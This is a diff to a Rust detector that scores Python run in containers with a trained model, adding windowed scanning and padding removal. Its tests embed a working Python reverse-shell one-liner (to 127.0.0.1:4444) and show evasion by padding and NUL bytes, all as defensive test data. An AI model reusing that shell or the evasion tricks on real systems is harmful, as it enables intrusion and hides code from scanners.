@@ -1,14 +1,44 @@
 //! `Execution: Malicious Python executed`: the code a Python interpreter runs in a container —
 //! the script named in argv (read inside the container's root, never outside it), the code of
 //! `-c`, or a note that it came from stdin — judged by the trained model in `python-model`.
+//!
+//! The model reads [`MAX_SCAN_BYTES`] at a time, so a script is judged in overlapping windows
+//! over its first [`SCRIPT_SCAN_LIMIT`] bytes, plus its last window when it is longer: a payload
+//! after padding is still seen, and what was neither read nor scored is reported
+//! (`Python_Script_Unscanned_Bytes`). Before scoring, what the interpreter ignores and an
+//! attacker uses to dilute or hide code is taken out: NUL bytes, and long runs of blanks or
+//! empty lines become one. Code that calls, decorates and imports nothing cannot act
+//! and is not judged.
 
-use std::{collections::HashMap, io::Read, os::unix::fs::MetadataExt, sync::Arc};
+use std::{
+    borrow::Cow,
+    collections::HashMap,
+    io::{Read, Seek, SeekFrom},
+    os::unix::fs::MetadataExt,
+    sync::Arc,
+};
 
 use python_model::{Model, MAX_SCAN_BYTES};
 use sha2::{Digest, Sha256};
 
-use super::{rules::DetectionId, tools::ToolKind, Ctx, Detection};
-use crate::{event::EventBody, process::rootfs};
+use super::{
+    rules::DetectionId,
+    tools::{KnownBinary, ToolKind},
+    Ctx, Detection,
+};
+use crate::{
+    event::{EventBody, RawStr},
+    process::rootfs,
+};
+
+/// Bytes of a script read and judged from its start; beyond, only its last window is.
+pub const SCRIPT_SCAN_LIMIT: usize = 2 * 1024 * 1024;
+
+/// Consecutive windows overlap by this much, so code cut by one boundary is whole in the next.
+const WINDOW_OVERLAP: usize = 16 * 1024;
+
+/// Runs of blanks (or of empty lines) longer than this become one.
+const MAX_RUN: usize = 16;
 
 /// The model shipped with shrike.
 pub const EMBEDDED_MODEL: &[u8] = include_bytes!("../../../rules/python-model.bin");
@@ -19,8 +49,9 @@ pub const CONTENTS_PREFIX: usize = 4096;
 /// Where the code came from.
 #[derive(Clone, Debug, PartialEq, Eq)]
 pub enum CodeSource {
-    /// A script file (path as the process named it, resolved inside its root).
-    Script(String),
+    /// A script file (path as the process named it, resolved inside its root; bytes, as the
+    /// kernel gave them).
+    Script(RawStr),
     /// `python -c CODE`.
     Argument,
     /// Standard input (`curl ... | python3`).
@@ -44,6 +75,72 @@ pub struct ScriptInfo {
     pub partially_hashed: bool,
     /// The first bytes, as text.
     pub contents: String,
+    /// Bytes of the script neither read nor judged (beyond [`SCRIPT_SCAN_LIMIT`], before its
+    /// last window).
+    pub unscanned: u64,
+}
+
+/// What the interpreter would run, without what only dilutes or hides it: NUL bytes (CPython
+/// 3.11 runs a file of NULs as an empty program), and runs of more than [`MAX_RUN`] blanks or
+/// empty lines (code pushed off-screen, or `pass` padded to look like something), each made one.
+pub fn normalise(code: &[u8]) -> Cow<'_, [u8]> {
+    let blank = |b: u8| matches!(b, b' ' | b'\t' | b'\r' | b'\x0c');
+    let needs = code.contains(&0)
+        || code.windows(MAX_RUN + 1).any(|w| w.iter().all(|&b| blank(b)) || w.iter().all(|&b| b == b'\n'));
+    if !needs {
+        return Cow::Borrowed(code);
+    }
+    let mut out = Vec::with_capacity(code.len());
+    let (mut blanks, mut newlines) = (0usize, 0usize);
+    for &b in code {
+        match b {
+            0 => continue,
+            b'\n' => {
+                blanks = 0;
+                newlines += 1;
+                if newlines > MAX_RUN {
+                    continue;
+                }
+            }
+            _ if blank(b) => {
+                blanks += 1;
+                if blanks > MAX_RUN {
+                    continue;
+                }
+            }
+            _ => {
+                blanks = 0;
+                newlines = 0;
+            }
+        }
+        out.push(b);
+    }
+    Cow::Owned(out)
+}
+
+/// True when the code cannot do anything: it calls nothing (no `(`), applies no decorator (a
+/// decorator is a call without parentheses) and imports nothing — `pass`, blanks, NULs, a bare
+/// assignment. The model, which learnt from whole files, has nothing to judge in such code and
+/// is not asked.
+fn is_inert(code: &[u8]) -> bool {
+    !code.iter().any(|&b| b == b'(' || b == b'@') && !code.windows(6).any(|w| w == b"import")
+}
+
+/// The highest score of the windows of `code` (already normalised): [`MAX_SCAN_BYTES`] each,
+/// overlapping by [`WINDOW_OVERLAP`], each after the first starting at a line start when one is
+/// near. Each window is judged on its own content: the model's "truncated" feature (a file
+/// longer than it reads), which alone would flag any long file, never fires, since the whole
+/// content is read.
+pub fn score_windows(model: &Model, code: &[u8]) -> f32 {
+    let window = |from: usize| &code[from..code.len().min(from + MAX_SCAN_BYTES)];
+    let mut best = model.score(window(0));
+    let mut start = MAX_SCAN_BYTES - WINDOW_OVERLAP;
+    while code.len() > MAX_SCAN_BYTES && start + WINDOW_OVERLAP < code.len() {
+        let line = code[start..code.len().min(start + 4096)].iter().position(|&b| b == b'\n').map_or(start, |i| start + i + 1);
+        best = best.max(model.score(window(line.min(code.len()))));
+        start += MAX_SCAN_BYTES - WINDOW_OVERLAP;
+    }
+    best
 }
 
 /// The interpreter's own options that take a value (CPython).
@@ -94,7 +191,7 @@ pub fn code_source(args: &[crate::event::RawStr]) -> (Option<CodeSource>, Option
             return (Some(CodeSource::Stdin), None);
         }
         if a == b"--" {
-            return (args.get(i + 1).map(|s| CodeSource::Script(s.to_string())), None);
+            return (args.get(i + 1).map(|s| CodeSource::Script(s.clone())), None);
         }
         if a.len() > 1 && a[0] == b'-' && a[1] != b'-' {
             for (j, &c) in a.iter().enumerate().skip(1) {
@@ -119,7 +216,7 @@ pub fn code_source(args: &[crate::event::RawStr]) -> (Option<CodeSource>, Option
             i += 1; // --version, --help, --check-hash-based-pycs VALUE (rare): treat as flags
             continue;
         }
-        return (Some(CodeSource::Script(args[i].to_string())), None);
+        return (Some(CodeSource::Script(args[i].clone())), None);
     }
     (Some(CodeSource::Stdin), None)
 }
@@ -140,30 +237,47 @@ impl PythonJudge {
         Self { model, cache: HashMap::new() }
     }
 
-    fn read_script(&mut self, root_pid: &[u32], root: Option<&std::os::fd::OwnedFd>, path: &str) -> Option<(f32, ScriptInfo)> {
+    fn read_script(&mut self, root_pid: &[u32], root: Option<&std::os::fd::OwnedFd>, path: &[u8]) -> Option<(f32, ScriptInfo)> {
         // The root of the process itself first (a chroot inside the container is its root),
         // the container's pinned root once the processes are gone.
-        let file = root_pid
+        let mut file = root_pid
             .iter()
-            .find_map(|p| rootfs::open_in_root(*p, path.as_bytes()).ok())
-            .or_else(|| if path.starts_with('/') { root.and_then(|r| rootfs::open_at_root(r, path.as_bytes()).ok()) } else { None })?;
+            .find_map(|p| rootfs::open_in_root(*p, path).ok())
+            .or_else(|| if path.starts_with(b"/") { root.and_then(|r| rootfs::open_at_root(r, path).ok()) } else { None })?;
         let m = file.metadata().ok()?;
         let key = (m.dev(), m.ino(), m.size(), m.mtime());
         if let Some(hit) = self.cache.get(&key) {
             return Some(hit.clone());
         }
-        let mut buf = Vec::with_capacity((m.size() as usize).min(MAX_SCAN_BYTES));
-        file.take(MAX_SCAN_BYTES as u64).read_to_end(&mut buf).ok()?;
-        let score = self.model.score(&buf);
+        let mut buf = Vec::with_capacity((m.size() as usize).min(SCRIPT_SCAN_LIMIT));
+        (&mut file).take(SCRIPT_SCAN_LIMIT as u64).read_to_end(&mut buf).ok()?;
         let sha256 = Sha256::digest(&buf).iter().map(|b| format!("{b:02x}")).collect();
+        let code = normalise(&buf);
+        let mut score = if is_inert(&code) { 0.0 } else { score_windows(&self.model, &code) };
+        // Longer than the limit: its end too, where appended code would be.
+        let mut unscanned = 0;
+        if m.size() > buf.len() as u64 {
+            let tail_from = m.size().saturating_sub(MAX_SCAN_BYTES as u64).max(buf.len() as u64);
+            unscanned = tail_from - buf.len() as u64;
+            let mut tail = Vec::with_capacity(MAX_SCAN_BYTES);
+            if file.seek(SeekFrom::Start(tail_from)).is_ok() && file.take(MAX_SCAN_BYTES as u64).read_to_end(&mut tail).is_ok() {
+                let tail = normalise(&tail);
+                if !is_inert(&tail) {
+                    score = score.max(self.model.score(&tail));
+                }
+            } else {
+                unscanned = m.size() - buf.len() as u64;
+            }
+        }
         let contents = String::from_utf8_lossy(&buf[..buf.len().min(CONTENTS_PREFIX)]).into_owned();
         let info = ScriptInfo {
-            path: path.to_string(),
+            path: String::from_utf8_lossy(path).into_owned(),
             size: m.size(),
             sha256,
             hashed_size: buf.len() as u64,
             partially_hashed: (buf.len() as u64) < m.size(),
             contents,
+            unscanned,
         };
         if self.cache.len() > 4096 {
             self.cache.clear();
@@ -189,8 +303,7 @@ impl PythonJudge {
             return;
         }
         let p = ctx.process;
-        let name = p.exe.basename();
-        if !is_python(name) {
+        if !is_python(p.exe.basename()) && ctx.known != Some(KnownBinary::Python) {
             return;
         }
         let args = &p.argv[ctx.args_from.min(p.argv.len())..];
@@ -198,9 +311,13 @@ impl PythonJudge {
         let (score, script, source_name) = match source {
             Some(CodeSource::Argument) => {
                 let code = inline.unwrap_or_default();
-                (self.model.score(&code), None, "argument")
+                let code = normalise(&code);
+                if is_inert(&code) {
+                    return;
+                }
+                (score_windows(&self.model, &code), None, "argument")
             }
-            Some(CodeSource::Script(path)) if live => match self.read_script(roots, root, &path) {
+            Some(CodeSource::Script(path)) if live => match self.read_script(roots, root, path.as_bytes()) {
                 Some((score, info)) => (score, Some(info), "script"),
                 None => return,
             },
@@ -227,6 +344,9 @@ impl PythonJudge {
         d.properties.push(("Python_Model_Score", f64::from(score).into()));
         d.properties.push(("Python_Model_Threshold", f64::from(self.model.threshold()).into()));
         d.properties.push(("Python_Model_Version", self.model.version().into()));
+        if let Some(s) = script.as_ref().filter(|s| s.unscanned > 0) {
+            d.properties.push(("Python_Script_Unscanned_Bytes", s.unscanned.into()));
+        }
         d.script = script;
         out.push(d);
     }
@@ -245,6 +365,9 @@ mod tests {
     fn python_command_lines() {
         assert_eq!(code_source(&args(&["x.py"])).0, Some(CodeSource::Script("x.py".into())));
         assert_eq!(code_source(&args(&["-u", "-W", "ignore", "/app/run.py", "--flag"])).0, Some(CodeSource::Script("/app/run.py".into())));
+        // A path that is not UTF-8 stays the bytes it is.
+        let odd = RawStr(b"/tmp/\xffx.py".to_vec());
+        assert_eq!(code_source(&[odd.clone()]).0, Some(CodeSource::Script(odd)));
         assert_eq!(code_source(&args(&["-c", "print(1)"])), (Some(CodeSource::Argument), Some(b"print(1)".to_vec())));
         assert_eq!(code_source(&args(&["-Bc", "import os"])), (Some(CodeSource::Argument), Some(b"import os".to_vec())));
         assert_eq!(code_source(&args(&["-cimport os"])), (Some(CodeSource::Argument), Some(b"import os".to_vec())));
@@ -252,6 +375,47 @@ mod tests {
         assert_eq!(code_source(&args(&[])).0, Some(CodeSource::Stdin));
         assert_eq!(code_source(&args(&["-"])).0, Some(CodeSource::Stdin));
         assert_eq!(code_source(&args(&["-X", "dev", "s.py"])).0, Some(CodeSource::Script("s.py".into())));
+    }
+
+    const REVERSE_SHELL: &[u8] = b"import socket,os,pty;s=socket.socket();s.connect((\"127.0.0.1\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")\n";
+
+    #[test]
+    fn junk_is_not_judged_and_padding_does_not_count() {
+        let m = Model::from_bytes(EMBEDDED_MODEL).unwrap();
+        assert!(is_inert(&normalise(&[0u8; 100_000])));
+        assert!(is_inert(&normalise(b"   \n\t\n")));
+        let padded = [&b"pass"[..], &[b' '; 50_000]].concat();
+        let n = normalise(&padded);
+        assert_eq!(&n[..], &[&b"pass"[..], &[b' '; MAX_RUN]].concat()[..]);
+        assert!(is_inert(&n), "pass + blanks");
+        assert!(is_inert(b"x = 1\nif x:\n    y = [i for i in range]\n"));
+        // Anything that calls, decorates or imports is judged.
+        for code in [&b"print(1)"[..], b"@exec\n@lambda _: 'x'\nclass C: pass", b"import os", b"from os import system"] {
+            assert!(!is_inert(code), "{}", String::from_utf8_lossy(code));
+        }
+        let lines = [&b"print(1)"[..], &[b'\n'; 50_000]].concat();
+        assert!(!m.is_malicious(score_windows(&m, &normalise(&lines))), "print + empty lines");
+        // Code hidden behind blanks or NULs is judged as the code it is.
+        let hidden = [&b"x = 1"[..], &[b' '; 20_000], &[0u8; 5000], b"\n", REVERSE_SHELL].concat();
+        assert!(m.is_malicious(score_windows(&m, &normalise(&hidden))));
+        // Ordinary code without runs comes back untouched, without a copy.
+        assert!(matches!(normalise(b"import os\nprint(os.getcwd())\n"), Cow::Borrowed(_)));
+    }
+
+    #[test]
+    fn a_payload_after_padding_is_still_seen() {
+        let m = Model::from_bytes(EMBEDDED_MODEL).unwrap();
+        // 300 KiB of comment lines, then the payload: past the model's window.
+        let mut code = Vec::new();
+        let mut i = 0;
+        while code.len() < 300 * 1024 {
+            code.extend_from_slice(format!("# configuration note {i}: values are read from the environment\n").as_bytes());
+            i += 1;
+        }
+        assert!(!m.is_malicious(score_windows(&m, &code)), "the padding alone");
+        code.extend_from_slice(REVERSE_SHELL);
+        assert!(!m.is_malicious(m.score(&code[..MAX_SCAN_BYTES])), "the first window alone misses it");
+        assert!(m.is_malicious(score_windows(&m, &code)), "a later window sees it");
     }
 
     #[test]
